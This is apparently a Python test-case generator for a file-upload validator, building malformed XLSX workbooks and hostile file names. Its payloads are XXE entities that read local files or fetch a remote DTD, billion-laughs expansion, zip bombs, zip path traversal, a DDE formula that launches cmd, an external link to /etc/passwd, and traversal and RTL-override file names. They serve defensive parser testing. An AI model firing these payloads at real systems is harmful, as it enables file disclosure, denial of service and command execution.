LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)
    )
    + "]>"
)


def xlsx_cases() -> list[Case]:
    c: list[tuple[str, Callable[[], bytes], bool | None, dict[str, str]]] = []

    def add(i: str, build: Callable[[], bytes], reject: bool | None = None, env: dict | None = None) -> None:
        c.append((i, build, reject, env or {}))

    people = [HEADER, *_people(10, "xlsx")]
    add("valid-handmade", lambda: _workbook())
    add("not-a-zip-text", lambda: good_csv(), True)
    add("not-a-zip-pk-prefix", lambda: b"PK\x03\x04" + _rng("pk").randbytes(2048), True)
    add(
        "empty-zip",
        lambda: _workbook(
            drop=(
                "[Content_Types].xml",
                "_rels/.rels",
                "xl/workbook.xml",
                "xl/_rels/workbook.xml.rels",
                "xl/worksheets/sheet1.xml",
            )
        ),
        True,
    )
    add("missing-workbook", lambda: _workbook(drop=("xl/workbook.xml",)), True)
    add("missing-sheet", lambda: _workbook(drop=("xl/worksheets/sheet1.xml",)), True)
    add("missing-content-types", lambda: _workbook(drop=("[Content_Types].xml",)), True)
    add("missing-workbook-rels", lambda: _workbook(drop=("xl/_rels/workbook.xml.rels",)), True)
    add("missing-root-rels", lambda: _workbook(drop=("_rels/.rels",)))
    add("truncated-zip", lambda: _workbook()[:-100], True)
    add("zip-central-dir-corrupt", lambda: (lambda d: d[:-30] + b"\x00" * 30)(_workbook()), True)
    add(
        "sheet-not-xml",
        lambda: _workbook({"xl/worksheets/sheet1.xml": b"\x00\xff garbage " + CANARY.encode()}),
        True,
    )
    add("sheet-truncated-xml", lambda: _workbook({"xl/worksheets/sheet1.xml": _sheet()[:-40]}), True)
    add("sparse-xfd1048576", lambda: _openpyxl_book(_sparse), True)
    add(
        "sparse-no-dimension",
        lambda: _rewrite(
            _openpyxl_book(_sparse),
            "xl/worksheets/sheet1.xml",
            lambda x: re.sub(rb"<dimension [^>]*/>", b"", x),
        ),
        True,
    )
    add(
        "dimension-lies-small",
        lambda: _workbook(
            {
                "xl/worksheets/sheet1.xml": _sheet([*people, [CANARY]], dimension="A1:A1").replace(
                    '<row r="12">', '<row r="12"><c r="XFD12" t="inlineStr"><is><t>z</t></is></c>'
                )
            }
        ),
    )
    add("dimension-garbage", lambda: _workbook({"xl/worksheets/sheet1.xml": _sheet(dimension="ZZZZ0:!!")}))
    add(
        "zip-bomb-ratio",
        lambda: _workbook(
            {"xl/worksheets/sheet1.xml": _sheet()[:-23] + "<row/>" * 400_000 + "</sheetData></worksheet>"},
            level=9,
        ),
        True,
    )
    add(
        "zip-bomb-unpacked-size",
        lambda: _workbook(
            {"xl/worksheets/sheet1.xml": _sheet()[:-23] + "<row/>" * 100_000 + "</sheetData></worksheet>"},
            level=9,
        ),
        True,
        {"SHOAL_XLSX_MAX_UNCOMPRESSED_BYTES": "200000", "SHOAL_MAX_COMPRESSION_RATIO": "100000"},
    )
    add(
        "zip-bomb-shared-strings",
        lambda: _workbook(
            {"xl/sharedStrings.xml": "<sst>" + "<si><t>a</t></si>" * 300_000 + "</sst>"}, level=9
        ),
        True,
    )
    add(
        "rows-over-limit",
        lambda: _workbook({"xl/worksheets/sheet1.xml": _sheet([HEADER, *_people(200, "xl")])}),
        True,
        {"SHOAL_MAX_ROWS": "100"},
    )
    add(
        "cells-over-limit",
        lambda: _workbook({"xl/worksheets/sheet1.xml": _sheet([HEADER, *_people(200, "xl2")])}),
        True,
        {"SHOAL_XLSX_MAX_CELLS": "300"},
    )
    add("zip-members-10001", lambda: _workbook({f"xl/media/p{i}.bin": b"" for i in range(10_001)}), True)
    add("zip-member-traversal", lambda: _workbook({"../../evil.xml": CANARY, "/abs/evil.xml": CANARY}))
    add(
        "xxe-sheet",
        lambda: _workbook(
            {"xl/worksheets/sheet1.xml": _sheet(prolog=XXE_FILE).replace(f"<t>{CANARY}</t>", "<t>&xxe;</t>")}
        ),
        True,
    )
    add(
        "xxe-shared-strings",
        lambda: _workbook(
            {
                "xl/sharedStrings.xml": f'<?xml version="1.0"?>{XXE_FILE}<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&xxe;{CANARY}</t></si></sst>'
            }
        ),
    )
    add(
        "xxe-workbook",
        lambda: _workbook(
            {
                "xl/workbook.xml": _WORKBOOK.replace("<workbook ", XXE_FILE + "<workbook ", 1).replace(
                    'name="S"', 'name="&xxe;"'
                )
            }
        ),
        True,
    )
    add(
        "xxe-content-types",
        lambda: _workbook({"[Content_Types].xml": _CT.replace("<Types ", XXE_FILE + "<Types ", 1)}),
    )
    add(
        "xxe-parameter-entity",
        lambda: _workbook(
            {
                "xl/worksheets/sheet1.xml": _sheet(
                    prolog='<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x.dtd"> %p;]>'
                )
            }
        ),
        True,
    )
    add(
        "billion-laughs-sheet",
        lambda: _workbook(
            {"xl/worksheets/sheet1.xml": _sheet(prolog=LAUGHS).replace(f"<t>{CANARY}</t>", "<t>&lol9;</t>")}
        ),
        True,
    )
    add(
        "billion-laughs-shared-strings",
        lambda: _workbook(
            {
                "xl/sharedStrings.xml": f'<?xml version="1.0"?>{LAUGHS}<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&lol9;</t></si></sst>'
            }
        ),
    )
    add(
        "external-link",
        lambda: _workbook(
            {
                "xl/externalLinks/externalLink1.xml": '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/></externalLink>',
                "xl/externalLinks/_rels/externalLink1.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///etc/passwd" TargetMode="External"/></Relationships>',
                "xl/_rels/workbook.xml.rels": _WB_RELS.replace(
                    "</Relationships>",
                    '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>',
                ),
            }
        ),
    )
    add(
        "formula-cells",
        lambda: _openpyxl_book(
            lambda ws: [
                ws.append(r)
                for r in [
                    HEADER,
                    [CANARY, "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","x")', "=1/0"],
                ]
            ]
        ),
    )  # type: ignore[attr-defined]
    add(
        "shared-string-index-out-of-range",
        lambda: _workbook(
            {
                "xl/worksheets/sheet1.xml": _sheet().replace(
                    f'<c r="A3" t="inlineStr"><is><t>{CANARY}</t></is></c>', '<c r="A3" t="s"><v>999</v></c>'
                )
            }
        ),
    )
    add(
        "bad-cell-types",
        lambda: _workbook(
            {
                "xl/worksheets/sheet1.xml": _sheet().replace(
                    "</sheetData>",
                    f'<row r="40"><c r="A40" t="n"><v>{CANARY}</v></c><c r="B40" t="d"><v>not-a-date</v></c><c r="C40" t="b"><v>7</v></c><c r="D40" t="e"><v>#DIV/0!</v></c></row></sheetData>',
                )
            }
        ),
    )
    add(
        "bad-cell-refs",
        lambda: _workbook(
            {"xl/worksheets/sheet1.xml": _sheet().replace('r="B2"', 'r="!!"').replace('r="C3"', 'r="XFE1"')}
        ),
    )
    add(
        "huge-inline-string",
        lambda: _workbook({"xl/worksheets/sheet1.xml": _sheet([HEADER, [CANARY, "s" * 300_000, "x", "1"]])}),
        True,
    )
    add("first-sheet-empty", lambda: _workbook({"xl/worksheets/sheet1.xml": _sheet([])}), True)
    add(
        "no-sheets",
        lambda: _workbook(
            {"xl/workbook.xml": _WORKBOOK.replace('<sheet name="S" sheetId="1" r:id="rId1"/>', "")}
        ),
        True,
    )
    add("ole-encrypted", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + _rng("ole").randbytes(4096), True)
    add(
        "ods-renamed",
        lambda: (
            lambda s: (
                zipfile.ZipFile(s, "w").writestr(
                    "mimetype", "application/vnd.oasis.opendocument.spreadsheet"
                ),
                s.getvalue(),
            )[1]
        )(io.BytesIO()),
        True,
    )
    add(
        "rtl-and-controls-in-cells",
        lambda: _openpyxl_book(
            lambda ws: [ws.append(r) for r in [HEADER, ["\u202e" + CANARY, "a\u200bb", "\U0001f600", "1"]]]
        ),
    )  # type: ignore[attr-defined]
    return [Case(f"xlsx-{i}", "xlsx", f"{i}.xlsx", b, r, e) for i, b, r, e in c]


# --- names and wrong extensions ------------------------------------------------------------------


def misc_cases() -> list[Case]:
    csv_bytes = good_csv
    pq_bytes = lambda: _parquet(_people_table())  # noqa: E731
    xlsx_bytes = lambda: _workbook()  # noqa: E731
    jsonl_bytes = lambda: _jsonl([{"name": CANARY}]).encode()  # noqa: E731
    c = [
        ("parquet-as-csv", "parquet-as.csv", pq_bytes, None),
        ("xlsx-as-csv", "xlsx-as.csv", xlsx_bytes, None),
        ("csv-as-parquet", "csv-as.parquet", csv_bytes, True),
        ("csv-as-xlsx", "csv-as.xlsx", csv_bytes, True),
        ("parquet-as-jsonl", "parquet-as.jsonl", pq_bytes, True),
        ("xlsx-as-txt", "xlsx-as.txt", xlsx_bytes, None),
        ("jsonl-as-csv", "jsonl-as.csv", jsonl_bytes, None),
        ("csv-as-jsonl", "csv-as.jsonl", csv_bytes, True),
        ("xlsx-as-parquet", "xlsx-as.parquet", xlsx_bytes, True),
        ("parquet-as-xlsx", "parquet-as.xlsx", pq_bytes, True),
        ("gzip-as-csv", "gz.csv", lambda: __import__("gzip").compress(good_csv()), None),
        ("exe-extension", "data.exe", csv_bytes, True),
        ("no-extension", "data", csv_bytes, True),
        ("double-extension", "data.csv.exe", csv_bytes, True),
        ("upper-extension", "DATA.CSV", csv_bytes, None),
        ("trailing-dot", "data.csv.", csv_bytes, True),
        ("traversal-unix", "../../etc/passwd.csv", csv_bytes, None),
        ("traversal-windows", "..\\..\\windows\\win.ini.csv", csv_bytes, None),
        ("traversal-absolute", "/etc/shadow.csv", csv_bytes, None),
        ("nul-in-name", "evil\x00.csv", csv_bytes, None),
        ("long-name-250", "n" * 250 + ".csv", csv_bytes, None),
        ("long-name-1000", "n" * 1000 + ".csv", csv_bytes, None),
        ("unicode-name", "données_клиенты_顧客_😀.csv", csv_bytes, None),
        ("rtl-override-name", "invoice\u202evsc.exe", csv_bytes, True),
        ("rtl-override-name-csv", "report\u202efdp.csv", csv_bytes, None),
        ("dot-only-name", ".csv", csv_bytes, True),
        ("hidden-name", "..csv", csv_bytes, None),
        ("newline-name", "a\nb.csv", csv_bytes, None),
    ]
    return [Case(f"misc-{i}", "names", name, b, r) for i, name, b, r in c]


def all_cases() -> list[Case]:
    cases = csv_cases() + jsonl_cases() + txt_cases() + parquet_cases() + xlsx_cases() + misc_cases()
    ids = [case.id for case in cases]
    assert len(ids) == len(set(ids)), "duplicate case ids"
    return cases
